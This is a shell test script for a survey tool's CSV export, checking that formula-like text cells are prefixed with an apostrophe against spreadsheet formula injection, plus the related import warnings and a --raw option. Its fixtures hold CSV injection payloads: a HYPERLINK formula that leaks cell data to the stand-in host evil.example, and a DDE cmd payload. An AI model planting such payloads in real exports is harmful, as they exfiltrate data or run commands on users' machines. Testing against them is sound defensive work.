# t0911-csv-formula: a CSV export is safe to open in Excel by default — a cell beginning with
# =, +, -, @, tab or CR gets a leading ' (OWASP's rule) unless it is a number (-5, -0.25 stay
# numbers); --raw writes cells as stored; JSON is unchanged. import warns about such text
# answers (one line per cell, capped) and still imports them.
. tests/lib.sh
export TZ=Asia/Bishkek

cat >"$TMP/f.md" <<'EOF'
| survey |
| | type | name | label |
| | text | t | Comment |
| | integer | n | Count |
| | decimal | d | Share |
| | select_one c | s | Choice |

| choices |
| | list_name | name | label |
| | c | -1 | =1+1 |
| | c | 2 | Two |

| settings |
| | form_id | version |
| | formula | 1 |
EOF
python3 - "$TMP/data.csv" <<'EOF'
import csv, sys
rows = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '-5', '-0.25', '-1', 'Ann'),
    ("=cmd|' /C calc'!A0", '+3', '2.5', '2', '=1+2'),
    ('+1+1', '0', '-1.5', '2', 'Ann'),
    ('-2+3', '7', '1', '2', 'Ann'),
    ('@SUM(A1)', '1', '1', '2', 'Ann'),
    ('\tx', '1', '1', '2', 'Ann'),
    ('\rx', '1', '1', '2', 'Ann'),
    ('-', '1', '1', '2', 'Ann'),
    ('=)', '1', '1', '2', 'Ann'),
    ('-5', '1', '1', '2', 'Ann'),
    ('Айгүл ң ө ү', '-12', '-0.5', '2', 'Айгүл'),
]
with open(sys.argv[1], 'w', newline='') as f:
    w = csv.writer(f, lineterminator='\n', quoting=csv.QUOTE_ALL)
    w.writerow(['t', 'n', 'd', 's', '_interviewer'])
    w.writerows(rows)
EOF

run "$SURVEY" import "$TMP/f.md" "$TMP/data.csv" --db "$TMP/a.db"
expect_rc 0 "import of formula-like text answers"
expect_out "imported 11 interviews" "every row imported"
expect_eq "$(grep -c ':t: warning: .*formula' "$TMP/err")" 9 "one warning per formula-like text answer (none for the text answer -5, a number)"
expect_err "data.csv:2:t: warning: a text answer beginning with '=' is read as a formula" "the warning located"
grep -q ":[nd]: warning" "$TMP/err" && not_ok "numbers warned about" || ok "no warning for numbers"

# column TABLE NAME: that column's cells, one per line (with a visible \t and \r)
column() {
	python3 - "$1" "$2" <<'EOF'
import csv, sys
with open(sys.argv[1], newline='') as f:
    for row in csv.DictReader(f):
        print(row[sys.argv[2]].replace('\t', '\\t').replace('\r', '\\r'))
EOF
}
run "$SURVEY" export "$TMP/a.db" -o "$TMP/out.csv"
expect_rc 0 "export csv"
column "$TMP/out.csv" t | sort >"$TMP/t"
cat >"$TMP/want" <<'EOF'
'+1+1
'-
'-2+3
'=)
'=HYPERLINK("http://evil.example/?"&A1,"click")
'=cmd|' /C calc'!A0
'@SUM(A1)
'\rx
'\tx
-5
Айгүл ң ө ү
EOF
sort "$TMP/want" >"$TMP/want.s"
cmp -s "$TMP/t" "$TMP/want.s" && ok "formula-like text cells prefixed with '" ||
	not_ok "text cells: $(diff "$TMP/want.s" "$TMP/t" | head -20)"
expect_eq "$(column "$TMP/out.csv" n | sort -n | tr '\n' ' ')" "-12 -5 0 1 1 1 1 1 1 3 7 " "integers unchanged, negatives too"
expect_eq "$(column "$TMP/out.csv" d | sort -n | tr '\n' ' ')" "-1.5 -0.5 -0.25 1 1 1 1 1 1 1 2.5 " "decimals unchanged, negatives too"
expect_eq "$(column "$TMP/out.csv" s | sort | uniq -c | awk '{printf "%s:%s ", $2, $1}')" "-1:1 2:10 " "a numeric choice name -1 unchanged"
expect_eq "$(column "$TMP/out.csv" _interviewer | sort -u | tr '\n' ' ')" "'=1+2 Ann Айгүл " "metadata cells prefixed too"
grep -q '^=' "$TMP/out.csv" && not_ok "a line begins with =" || ok "no line begins with ="

run "$SURVEY" export "$TMP/a.db" -o "$TMP/lab.csv" --labels --lang default
expect_rc 0 "export csv --labels"
expect_eq "$(column "$TMP/lab.csv" s | sort -u | tr '\n' ' ')" "'=1+1 Two " "a formula-like choice label prefixed"

run "$SURVEY" export "$TMP/a.db" -o "$TMP/raw.csv" --raw
expect_rc 0 "export csv --raw"
column "$TMP/raw.csv" t | sort >"$TMP/traw"
sed "s/^'//" "$TMP/want" | sort >"$TMP/wantraw"
cmp -s "$TMP/traw" "$TMP/wantraw" && ok "--raw: cells as stored" ||
	not_ok "--raw: $(diff "$TMP/wantraw" "$TMP/traw" | head)"

run "$SURVEY" export "$TMP/a.db" -o "$TMP/out.json"
expect_rc 0 "export json"
grep -q '"=HYPERLINK' "$TMP/out.json" && ok "JSON unchanged" || not_ok "JSON changed"
run "$SURVEY" export "$TMP/a.db" -o "$TMP/out.sav" --raw
expect_rc 2 "--raw is for CSV only"

run "$SURVEY" help export
expect_out '--raw' "export's help names --raw"

# many formula-like answers: at most 20 messages, then how many more
python3 - "$TMP/many.csv" <<'EOF'
import sys
with open(sys.argv[1], 'w') as f:
    f.write('t,n,d,s\n')
    for i in range(50):
        f.write('=A%d,1,1,2\n' % i)
EOF
run "$SURVEY" import "$TMP/f.md" "$TMP/many.csv" --db "$TMP/b.db"
expect_rc 0 "import of 50 formula-like answers"
expect_err_lines 21 "20 warnings and one line for the rest"
expect_err "and 30 more messages not shown \(0 errors, 50 warnings in all\)" "the rest counted"
done_testing
